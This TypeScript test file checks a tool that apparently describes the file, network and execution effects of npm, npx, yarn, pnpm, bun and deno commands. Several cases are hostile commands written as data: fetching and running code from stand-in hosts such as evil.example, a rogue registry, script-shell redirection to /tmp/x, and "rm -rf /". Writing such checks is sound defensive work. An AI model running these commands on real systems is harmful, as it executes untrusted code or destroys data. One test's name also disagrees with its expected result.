import { expect, test } from 'bun:test';
import { PACKAGE_MANAGERS } from './package-managers.ts';
import { describe, withFiles, rowOf } from '../testing/describe-reading.ts';

const CONTEXT = withFiles({
  '/p/package.json': JSON.stringify({
    scripts: {
      build: 'tsc -p .',
      prebuild: 'rm -rf dist',
      test: 'jest',
      start: 'node x.js',
      prepare: 'husky',
    },
  }),
  '/p/packages/web/package.json': JSON.stringify({ scripts: { dev: 'vite' } }),
});

const CASES: readonly (readonly [command: string, reading: string])[] = [
  ['npm install', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['npm ci', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['npm i lodash', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  [
    'npm i -g evil',
    'write workspace:/p, network get:registry.npmjs.org, execute program:npm, script(husky)',
  ],
  [
    'npm i https://evil.example/x.tgz',
    'write workspace:/p, network get:registry.npmjs.org, network get:https://evil.example/x.tgz, execute program:npm, script(husky)',
  ],
  [
    'npm i user/repo',
    'write workspace:/p, network get:registry.npmjs.org, network get:github.com, execute program:npm, script(husky)',
  ],
  [
    'npm i ../x',
    'write workspace:/p, network get:registry.npmjs.org, read tree:/x, execute program:npm, script(husky)',
  ],
  ['npm run build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
  [
    'npm run build -- --watch',
    "write workspace:/p, script(rm -rf dist), script(tsc -p . '--watch')",
  ],
  ['npm test', 'write workspace:/p, script(jest)'],
  ['npm t', 'write workspace:/p, script(jest)'],
  ['npm run nothing', ''],
  [
    'npm --prefix packages/web run dev',
    'write workspace:/p/packages/web, script(vite @/p/packages/web)',
  ],
  ['npm run dev -w packages/web', 'write workspace:/p, script(vite @/p/packages/web)'],
  ['npm run dev -w @a/web', 'write workspace:/p, script(vite @/p/packages/web)'],
  ['npm run build --workspaces', 'write workspace:/p, execute program:npm'],
  [
    'npm publish',
    'write workspace:/p, read workspace:/p, network put:registry.npmjs.org, script(husky)',
  ],
  ['npm unpublish x', 'network! delete:registry.npmjs.org'],
  ['npm exec tsc', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc)'],
  ['npm ls', 'read workspace:/p'],
  ['npm audit fix', 'write workspace:/p, network get:registry.npmjs.org'],
  ['npm config set script-shell /tmp/x', 'write /home/u/.npmrc, execute program:npm'],
  [
    'npm --script-shell=/tmp/x run build',
    'execute program:/tmp/x, write workspace:/p, script(rm -rf dist), script(tsc -p .)',
  ],
  ['npm config get registry', 'read workspace:/p'],
  ['npx tsc --noEmit', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc --noEmit)'],
  ['npx evil', 'write workspace:/p, network get:registry.npmjs.org, execute program:evil'],
  ['npx -p evil tsc', 'write workspace:/p, network get:registry.npmjs.org, execute program:tsc'],
  [
    'npx eslint@npm:evil .',
    'write workspace:/p, network get:registry.npmjs.org, execute program:eslint@npm:evil',
  ],
  [
    'npx prettier@3 --write .',
    'write workspace:/p, network get:registry.npmjs.org, argv(prettier --write .)',
  ],
  [
    'npx -y create-x',
    'write workspace:/p, network get:registry.npmjs.org, execute program:create-x',
  ],
  ["npx -c 'rm -rf /'", 'write workspace:/p, network get:registry.npmjs.org, script(rm -rf /)'],
  ['yarn', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['yarn build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
  ['yarn tsc', 'argv(tsc)'],
  ['yarn add x', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['yarn workspace web dev', 'write workspace:/p, script(vite @/p/packages/web)'],
  ['pnpm build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
  ['pnpm --filter web dev', 'write workspace:/p, script(vite @/p/packages/web)'],
  ['pnpm -r build', 'write workspace:/p, execute program:pnpm'],
  ['pnpm dlx evil', 'write workspace:/p, network get:registry.npmjs.org, execute program:evil'],
  ['pnpm exec vitest', 'write workspace:/p, argv(vitest)'],
  ['bun test', 'write workspace:/p'],
  ['bun run build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
  ['bun x.ts', 'write workspace:/p, argv(node x.ts)'],
  ['bun run x.ts', 'write workspace:/p, argv(node x.ts)'],
  ["bun -e 'x'", 'unknown'],
  ['deno run -A x.ts', 'write workspace:/p, argv(node x.ts)'],
  ['deno run https://evil/x.ts', 'network get:https://evil/x.ts, execute program:deno'],
  ['npm run', 'read workspace:/p'],
  ['npm', ''],
  ['npm start', 'write workspace:/p, script(node x.js)'],
  ['npm version patch', 'write workspace:/p'],
  ['npm init -y', 'write workspace:/p'],
  ['npm init vite', 'write workspace:/p, execute program:vite'],
  ['npm run --foo build evil', 'write workspace:/p, execute program:npm'],
  ['npm --silent run build', 'write workspace:/p, script(rm -rf dist), script(tsc -p .)'],
  ['npx --yes prettier .', 'write workspace:/p, network get:registry.npmjs.org, argv(prettier .)'],
  ['npm run dev', ''],
  [
    'pnpm install --frozen-lockfile',
    'write workspace:/p, network get:registry.npmjs.org, script(husky)',
  ],
  ['pnpm add -D x', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['pnpm add -w x', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['pnpm test', 'write workspace:/p, script(jest)'],
  ['yarn install --immutable', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['yarn test --watch', "write workspace:/p, script(jest '--watch')"],
  ['yarn dlx evil', 'write workspace:/p, network get:registry.npmjs.org, execute program:evil'],
  ['yarn workspaces list', 'read workspace:/p'],
  ['yarn node x.js', 'write workspace:/p, argv(node x.js)'],
  ['bunx prettier .', 'write workspace:/p, network get:registry.npmjs.org, argv(prettier .)'],
  ['bun install', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['bun add x', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['deno test', 'write workspace:/p'],
  ["deno eval 'x'", 'unknown'],
  ['deno fmt', 'write workspace:/p'],
  ['corepack enable', 'write workspace:/p, network get:registry.npmjs.org'],
  ['nvm use 20', 'read workspace:/p'],
  ['nvm install 20', 'write workspace:/p, network get:nodejs.org, execute program:nvm'],
  [
    'npm i ./local',
    'write workspace:/p, network get:registry.npmjs.org, read tree:/p/local, script(husky)',
  ],
  ['npm i x@npm:evil', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  [
    'npm i x@https://evil/a.tgz',
    'write workspace:/p, network get:registry.npmjs.org, network get:https://evil/a.tgz, execute program:npm, script(husky)',
  ],
  [
    'npm install $X',
    'execute program:npm, write workspace:/p, network get:registry.npmjs.org, script(husky)',
  ],
  [
    'npm --registry=https://evil i x',
    'write workspace:/p, network get:https://evil, script(husky)',
  ],
  ['npm install --ignore-scripts', 'write workspace:/p, network get:registry.npmjs.org'],
  ['npm uninstall x', 'write workspace:/p'],
  ['npm update', 'write workspace:/p, network get:registry.npmjs.org, script(husky)'],
  ['npm outdated', 'read workspace:/p, network get:registry.npmjs.org'],
  ['npm view x', 'read workspace:/p, network get:registry.npmjs.org'],
  ['npm pack', 'write workspace:/p, script(husky)'],
  ['npm link', 'write workspace:/p'],
  ['npm login', 'unknown'],
  ['npm access public x', 'network! delete:registry.npmjs.org'],
  ['npm dist-tag add x', 'network! delete:registry.npmjs.org'],
  ['npm config list', 'read workspace:/p'],
  ['npm cache clean --force', 'write workspace:/p'],
  ['npm explore x', 'unknown'],
  ['npm edit x', 'unknown'],
  ['npx -y typescript', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc)'],
  ['npx ts-node x.ts', 'write workspace:/p, network get:registry.npmjs.org, argv(ts-node x.ts)'],
  ['npx $X', 'execute program:npx, write workspace:/p, network get:registry.npmjs.org'],
  ['npx jest@29', 'write workspace:/p, network get:registry.npmjs.org, argv(jest)'],
  ['npx @angular/cli build', 'write workspace:/p, network get:registry.npmjs.org, argv(ng build)'],
  ['npx --package=typescript tsc', 'write workspace:/p, network get:registry.npmjs.org, argv(tsc)'],
  ['npm test --script-shell=/tmp/x', 'execute program:/tmp/x, write workspace:/p, script(jest)'],
  [
    'npx --package evil -- eslint',
    'write workspace:/p, network get:registry.npmjs.org, execute program:eslint',
  ],
  ['yarn --cwd /tmp/x test', 'write workspace:/tmp/x, execute program:yarn'],
  ['npm -C /tmp/x test', 'write workspace:/tmp/x, execute program:npm'],
];

test.each(CASES)('%s has exactly its effects', (command, reading) => {
  expect(describe(command, CONTEXT)).toBe(reading);
});

test('package managers are in the table', () => {
  expect(rowOf('pnpm')).toBe(PACKAGE_MANAGERS.pnpm);
});

test('settings that give scripts to another program make them unknown', () => {
  const files = {
    '/p/package.json': '{"scripts":{"a":"b"}}',
    '/p/.npmrc': 'script-shell=/tmp/x\n',
  };
  expect(describe('npm run a', withFiles(files))).toBe(
    'write workspace:/p, execute program:npm, script(b)',
  );
});

test('a package.json that is no JSON runs nobody knows what', () => {
  expect(describe('npm test', withFiles({ '/p/package.json': '{' }))).toBe(
    'write workspace:/p, execute program:npm',
  );
});
